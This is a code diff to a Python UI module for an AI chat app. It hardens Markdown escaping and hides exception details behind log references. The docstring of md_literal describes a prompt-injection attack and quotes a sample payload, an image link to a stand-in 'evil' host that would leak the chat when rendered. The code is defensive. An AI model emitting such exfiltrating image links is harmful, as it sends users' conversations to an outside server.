@@ -7,7 +7,9 @@ and from the SessionRecord when a past session is reopened, so both look the sam
 from __future__ import annotations
 
 import html
+import logging
 import re
+import secrets
 from dataclasses import dataclass, field
 from typing import Literal
 
@@ -164,14 +166,55 @@ def readable(text: str) -> str:
     return " ".join(parse.strip_tags(parse.strip_think(text)).split()) if text.strip() else ""
 
 
-_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~])")
+_MD_SPECIAL = re.compile(r"([!-/:-@\[-`{-~])")  # every ASCII punctuation mark (CommonMark escapes them all)
 
 
 def md_literal(text: str) -> str:
-    """Text shown literally inside Streamlit Markdown: every Markdown punctuation mark backslash-escaped, so model or
-    web text (queries, titles, checklist items, questions) can never render as an image or a link, e.g. a
-    prompt-injected `![](https://evil/?q=...)` that would leak the chat to a remote server when drawn."""
+    """Text shown literally inside Streamlit Markdown (st.markdown, st.caption, st.info, st.warning, st.error, widget
+    labels): on one line, every ASCII punctuation mark backslash-escaped.
+
+    Model, tool, web and other people's text (queries, tool names and errors, titles, checklist items, questions)
+    then never renders as an image, a link or HTML: a prompt-injected `![](https://evil/?q=...)` would make every
+    viewer's browser fetch that URL, an admin's included. Escaping `:` and `/` also stops GFM's bare-URL autolinks
+    (`https\\:\\/\\/...`) and Streamlit's `:color[...]` and `:emoji:` directives; `$` stops LaTeX; `&` entities.
+    """
     return _MD_SPECIAL.sub(r"\\\1", " ".join(text.split()))
+
+
+_log = logging.getLogger("app.ui")
+
+
+def error_reference(what: str, exc: BaseException | str) -> str:
+    """The message the page shows for a failure: `what` went wrong, and a short reference to its log line.
+
+    Exception text names hosts, paths, ports and sometimes queries; it goes to the app's log (with the traceback)
+    under the reference, never onto the page, which any signed-in person may be looking at.
+    """
+    ref = secrets.token_hex(4)
+    if isinstance(exc, BaseException):
+        _log.error("%s [error %s]: %s: %s", what, ref, type(exc).__name__, exc, exc_info=exc)
+    else:
+        _log.error("%s [error %s]: %s", what, ref, exc)
+    return f"{what} (error reference `{ref}`; the details are in the app's log)."
+
+
+# Failure reasons of the app's own that name nothing about the deployment: shown as they are. Any other stored
+# failure is exception text (hosts, paths) and is replaced by a reference (`failure_text`).
+_KNOWN_FAILURES = re.compile(
+    r"the user rejected the plan|the (plan|clarifying question) waited (for approval|for an answer) past "
+    r"[0-9T:+\-]+ and expired")
+
+
+def failure_text(view: RunView) -> str:
+    """What the page says about a failed run: a known reason as it is, else a generic line whose reference is the
+    session (its stored error keeps the exception text, for admins and `rubricem` commands, never for the page)."""
+    error = view.error or ""
+    if _KNOWN_FAILURES.fullmatch(error):
+        return f"The run ended: {md_literal(error)}."
+    if view.session_id is None:  # the page shows the exception's own reference (`error_reference`) below
+        return "The run failed before its session was created."
+    sid = re.sub(r"[^A-Za-z0-9_-]", "", view.session_id)
+    return f"The run failed (error reference: session `{sid}`; the details are in the session log)."
 
 
 def _note_text(kind: str, data: dict[str, object]) -> str:
